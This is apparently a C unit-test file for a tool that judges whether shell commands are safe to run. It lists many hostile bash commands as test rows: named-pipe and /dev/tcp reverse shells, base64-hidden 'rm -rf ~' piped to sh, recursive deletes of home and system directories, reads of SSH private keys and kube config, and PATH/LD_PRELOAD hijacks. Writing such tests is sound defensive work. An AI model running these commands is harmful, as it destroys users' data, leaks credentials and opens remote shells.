/* SPDX-License-Identifier: MIT */
/*
 * The walker against who wants a harmless answer: variables set by ways round, text from elsewhere
 * that is evaluated, lists of files that are fed to something, filters and pipes with names.
 */
#include "judge_rows.h"

static void
asks_about_a_variable_that_programs_act_on_however_it_is_set(void **state)
{
	static const struct row rows[] = {
		{ "declare -n p=PATH; p=/tmp; ls", P, "environment.loads" },
		{ "(( PATH=5 )); ls", P, "environment.loads" },
		{ "let PATH=5; ls", P, "environment.loads" },
		{ "echo $(( PATH = 5 ))", P, "environment.loads" },
		{ ": ${LD_PRELOAD:=./x.so}; ls", P, "environment.loads" },
		{ "mapfile -t PATH < f; ls", P, "environment.loads" },
		{ "exec {PATH}<f; ls", P, "environment.loads" },
		{ "coproc PATH { cat; }; ls", P, "environment.loads" },
		{ "BASH_CMDS[ls]=/tmp/x; ls", P, "environment.loads" },
		{ "unset PATH; ls", P, "" },
		{ "unset -v PATH; ls", P, "" },
		{ "set +o history", P, "builtin.option" },
		{ "declare -n p=LC_ALL; p=C; ls", A, "" },
		{ "PATH=/usr/bin:/bin ls", A, "" },
		{ "PAGER=cat git log", A, "" },
		{ "x=1; let x=x+1; echo $x", A, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
follows_a_process_that_starts_before_what_it_reads_is_known(void **state)
{
	static const struct row rows[] = {
		{ "x='rm -rf /'; for i in >($x); do x=ls; done", F, "delete-tree.root" },
		{ "x='touch y'; printf -v x ls > >($x)", P, "make.workspace" },
		{ "x='touch y'; read x <<< ls > >($x)", P, "make.workspace" },
		{ "cd /usr > >(rm -rf share)", F, "delete-tree.system" },
		{ "f() { exec 3> >(\"$@\"); }; f touch y; ls", P, "make.workspace" },
		{ "$(echo rm > >(cat)) -rf /", F, "delete-tree.root" },
		{ "ls | tee >(wc -l)", A, "" },
		{ "x=ls; for i in >($x); do x=wc; done", A, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
asks_about_text_from_elsewhere_that_is_evaluated(void **state)
{
	static const struct row rows[] = {
		{ "[[ $(cat f) -eq 0 ]]", P, "arithmetic.foreign" },
		{ "echo $(( $(cat f) ))", P, "arithmetic.foreign" },
		{ "read x < f; (( x ))", P, "arithmetic.foreign" },
		{ "read x < f; [[ $x -gt 1 ]]", P, "arithmetic.foreign" },
		{ "mapfile -t a < f; echo $((a[0]))", P, "arithmetic.foreign" },
		{ "x=$(git log -1 --format=%s); (( x ))", P, "arithmetic.foreign" },
		{ "x=$(cat f); echo ${!x}", P, "arithmetic.foreign" },
		{ "x=$(cat f); echo ${y:x:1}", P, "arithmetic.foreign" },
		{ "echo ${y[$(cat f)]}", P, "arithmetic.foreign" },
		{ "y[$(cat f)]=1", P, "arithmetic.foreign" },
		{ "x=$(cat f); declare -i z=$x", P, "arithmetic.foreign" },
		{ "[[ -v $(cat f) ]]", P, "arithmetic.foreign" },
		{ "declare -n r=$(cat f); echo $r", P, "" },
		{ "[[ $(wc -l < f) -gt 3 ]]", A, "" },
		{ "echo $(( $(date +%s) - 5 ))", A, "" },
		{ "n=$(grep -c x f); (( n > 0 )) && echo y", A, "" },
		{ "[ \"$(cat f)\" -eq 0 ]", A, "" },
		{ "[[ $# -gt 0 && $? -eq 0 ]]", A, "" },
		{ "n=0; while [ $n -lt 3 ]; do n=$((n+1)); done", A, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
knows_where_listed_files_are(void **state)
{
	static const struct row rows[] = {
		{ "find ~ | xargs rm -rf", F, "delete-tree.root" },
		{ "find / -type f -print0 | xargs -0 rm -f", F, "delete.root" },
		{ "find . | xargs rm -rf", F, "delete-tree.workspace-top" },
		{ "find ~ -name '*.log' | xargs -I{} rm -rf {}", F, "delete-tree.root" },
		{ "rm -rf $(find ~)", F, "delete-tree.root" },
		{ "for f in $(find ~ -type f); do rm -rf $f; done", F, "delete-tree.root" },
		{ "find ~ | head -5 | xargs rm", F, "delete.root" },
		{ "find ~/.ssh -type f | xargs cat", F, "read.secret" },
		{ "find / | xargs chmod 777", F, "change-mode.root" },
		{ "ls -d ~/* | xargs rm -rf", F, "delete-tree.root" },
		{ "ls -d /etc/* | xargs rm -rf", F, "delete-tree.system" },
		{ "find . -name '*.pyc' | xargs rm", P, "delete.unknown" },
		{ "find build | xargs rm -rf", P, "" },
		{ "find . -printf '/%p\\n' | xargs rm", P, "" },
		{ "x=$(find . -name x); rm -rf \"$x\"", P, "" },
		{ "find . -name '*.c' | xargs wc -l", A, "" },
		{ "grep foo $(find src -type f)", A, "" },
		{ "ls $x", A, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
follows_what_filters_and_wrappers_let_through(void **state)
{
	static const struct row rows[] = {
		{ "nohup base64 -d <<< cm0gLXJmIH4= | sh", F, "delete-tree.root" },
		{ "sudo base64 -d <<< cm0gLXJmIH4= | sh", F, "delete-tree.root" },
		{ "grep rm <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
		{ "dd <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
		{ "fmt <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
		{ "iconv -t utf8 <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
		{ "echo 'rm -rf /' | grep rm", A, "" },
		{ "cd /bin; ./rm -rf ~", F, "delete-tree.root" },
		{ "cd /bin; ./ls", A, "" },
		{ "./ls", P, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
sees_a_shell_behind_a_named_pipe(void **state)
{
	static const struct row rows[] = {
		{ "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f", F, "" },
		{ "mkfifo f; cat f | /bin/sh | openssl s_client -connect h:1 > f", F, "" },
		{ "mkfifo f; tail -f f | bash | telnet h 1 > f", F, "" },
		{ "exec 196<>/dev/tcp/h/1; sh <&196 >&196", F, "" },
		{ "cat f | sh | nc h 1", P, "" },
		{ "mkfifo f; cat f", P, "" },
	};

	(void)state;
	CHECK(rows);
}

static void
tells_the_halves_of_a_key_apart(void **state)
{
	static const struct row rows[] = {
		{ "cat ~/.ssh/id_rsa", F, "read.secret" },
		{ "ls ~/.ssh/*.pub", P, "list.private" },
		{ "cat ~/.ssh/id_rsa ~/.ssh/id_rsa.pub", F, "read.secret" },
		{ "cat ~/.ssh/id_rsa*", F, "read.secret" },
		{ "cat ~/.ssh/x.pub/../id_rsa", F, "read.secret" },
		{ "cat ~/.ssh/id_rsa.pub", P, "read.private" },
		{ "cat ~/.ssh/*.pub", P, "read.private" },
		{ "ip l s eth0 down", P, "network.changes-settings" },
		{ "ip link se eth0 down", P, "network.changes-settings" },
		{ "ip l", A, "" },
		{ "ip link sh", A, "" },
		{ "ip a s", A, "" },
	};

	(void)state;
	CHECK(rows);
}

/* Names of files are not looked up: how many words a pattern is, nobody knows. */
static void
counts_no_words_behind_a_pattern(void **state)
{
	static const struct row rows[] = {
		{ "a=(* ls); ${a[1]} x", P, "command.unknown-program" },
		{ "a=(*\"$v\" ls); ${a[1]} x", P, "command.unknown-program" },
		{ "a=(ls *); ${a[0]} x; ${a[2]} y", P, "command.unknown-program" },
		{ "a=(* x); a[1]=ls; ${a[1]} y", P, "command.unknown-program" },
		{ "set -- * ls; $2 x", P, "command.unknown-program" },
		{ "set -- *\"$v\" ls; $2 x", P, "command.unknown-program" },
		{ "set -- ls *; $3 x", P, "command.unknown-program" },
		{ "set -- *; shift; $1 x", P, "command.unknown-program" },
		{ "f() { $2 x; }; f *\"$v\" ls", P, "command.unknown-program" },
		{ "bash -c '$1 x' * ls", P, "command.unknown-program" },
		{ "shopt -s nullglob; bash -c '$1 x' ls *", P, "command.unknown-program" },
		{ "a=(ls *); ${a[0]} x", A, "" },
		{ "set -- ls *; $1 x", A, "" },
		{ "a=(*.c); wc -l \"${a[@]}\"", A, "" },
		{ "set -- *.c; for f; do wc -l \"$f\"; done", A, "" },
		{ "set -- a *.c; wc -l \"${@:2}\"", A, "" },
	};

	(void)state;
	CHECK(rows);
}

/* Of the names that it matches only the first one is the argument. */
static void
asks_about_a_pattern_as_an_argument_of_an_option(void **state)
{
	static const struct row rows[] = {
		{ "git -C a* status push", P, "command.unknown-use" },
		{ "git -C a*\"$x\" status", P, "command.unknown-use" },
		{ "env -C a* ls", P, "command.unknown-use" },
		{ "timeout -s a* 5 ls", P, "command.unknown-use" },
		{ "nice -n a* ls", P, "command.unknown-use" },
		{ "shopt -s nullglob; env -C a* x rm -rf /", P, "command.unknown-use" },
		{ "find . -name *", P, "command.unknown-use" },
		{ "find . -name *te", P, "command.unknown-use" },
		{ "find . -name -d*", P, "command.unknown-use" },
		{ "find * -name x", P, "command.unknown-use" },
		{ "truncate -r ~/* -s 0 x", F, "empty.root" },
		{ "tar tf *", P, "command.unknown-use" },
		{ "git -C 'a*' status", A, "" },
		{ "find . -name *.py", A, "" },
		{ "find . -path */foo/*", A, "" },
		{ "find *.d -name test*", A, "" },
		{ "grep -r --include *.c foo .", A, "" },
		{ "rg -g *.ts foo", A, "" },
		{ "tar tf *.tar", A, "" },
		{ "git log --author a* x", A, "" },
	};

	(void)state;
	CHECK(rows);
}

/* bash counts the parentheses of the scripts in it as it prints them. */
static void
does_not_take_a_command_for_arithmetic(void **state)
{
	static const struct row rows[] = {
		{ "echo $(( touch x + $(case w in w) ls;; esac) ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + $(case w in (w) ls;; esac) ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + `case w in w) ls;; esac` ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + $(ls $(case w in w) ls;; esac)) ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + ${y:-`case w in w) ls;; esac`} ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + $(ls ${y#)}) ))", P, "syntax.unreadable" },
		{ "echo $(( touch x + `ls # (\n` ))", P, "syntax.unreadable" },
		{ "echo $(\ntime case x in a) ls;; esac <<'E'\n$(touch x)\nE\n)", P,
		  "syntax.unreadable" },
		{ "echo $(\ntime { ls; }\n)", P, "syntax.unreadable" },
		{ "echo $(# x\ntime ls && { ls; }\n)", A, "" },
		{ "echo $(( $(date -d \"$(cat x)\" +%s) - $(date -d \"$y\" +%s) ))", A, "" },
		{ "echo $(( $(echo \"a)\" | wc -c) + (1 << 2) ))", A, "" },
		{ "echo $(( 1 +\n 2 ))", A, "" },
	};

	(void)state;
	CHECK(rows);
}

/* After a cd that failed, OLDPWD and the stack are what they were. */
static void
knows_where_a_failed_change_of_directory_leads_back_to(void **state)
{
	static const struct row rows[] = {
		{ "cd ~/.kube; cd /tmp; cd nope; cd -; cat config", P, "read.secret" },
		{ "cd ~/.kube; cd /tmp; cd nope; cat \"$OLDPWD/config\"", P, "" },
		{ "cd ~/.kube; cd /tmp; cd nope; cat ~-/config", P, "" },
		{ "cd ~/.kube; cd /tmp; cd nope; cd no; cd -; cat config", P, "read.secret" },
		{ "cd ~/.kube; cd /tmp; cd nope || ls; cd -; cat config", P, "read.secret" },
		{ "cd ~/.kube; cd /tmp; cd nope && ls; cd -; cat config", P, "read.secret" },
		{ "cd ~/.kube; pushd /tmp; pushd nope; popd; cat config", P, "read.secret" },
		{ "cd ~/.kube; pushd /tmp; pushd nope; pushd; cat config", P, "read.secret" },
		{ "cd ~/.kube; pushd /tmp; pushd /; dirs -c; popd; cat config", F, "" },
		{ "cd ~/.kube; pushd /tmp; pushd /; [ x ] && popd; popd; cat config", F, "" },
		{ "pushd -n ~/.kube; popd; cat config", F, "read.secret" },
		{ "cd ~/.kube; ls && cd /tmp; cat config", F, "read.secret" },
		{ "cd /tmp; cd ~/.kube; cd nope; [ x ] && cd /tmp; cat config", F, "" },
		{ "cd ~/.kube; cd /tmp; [ x ] && cd /usr; cd -; cat config", F, "" },
		{ "cd ~/.kube; cd /tmp; [ x ] && OLDPWD=/usr; cd -; cat config", F, "" },
		{ "cd ~/.kube; pushd /tmp; pushd /; pushd +1; cat config", F, "" },
		{ "cd nope && ls && cd - && cat x", A, "" },
		{ "cd nope && ls && cd -; cat x", A, "" },
		{ "pushd nope && ls && popd; cat x", A, "" },
		{ "pushd nope; ls; popd; cat x", A, "" },
		{ "cd ~/.kube; cd /tmp; cd nope && cd - && cat config", A, "" },
	};

	(void)state;
	CHECK(rows);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(asks_about_a_variable_that_programs_act_on_however_it_is_set),
		cmocka_unit_test(follows_a_process_that_starts_before_what_it_reads_is_known),
		cmocka_unit_test(asks_about_text_from_elsewhere_that_is_evaluated),
		cmocka_unit_test(knows_where_listed_files_are),
		cmocka_unit_test(follows_what_filters_and_wrappers_let_through),
		cmocka_unit_test(sees_a_shell_behind_a_named_pipe),
		cmocka_unit_test(tells_the_halves_of_a_key_apart),
		cmocka_unit_test(knows_where_a_failed_change_of_directory_leads_back_to),
		cmocka_unit_test(does_not_take_a_command_for_arithmetic),
		cmocka_unit_test(counts_no_words_behind_a_pattern),
		cmocka_unit_test(asks_about_a_pattern_as_an_argument_of_an_option),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
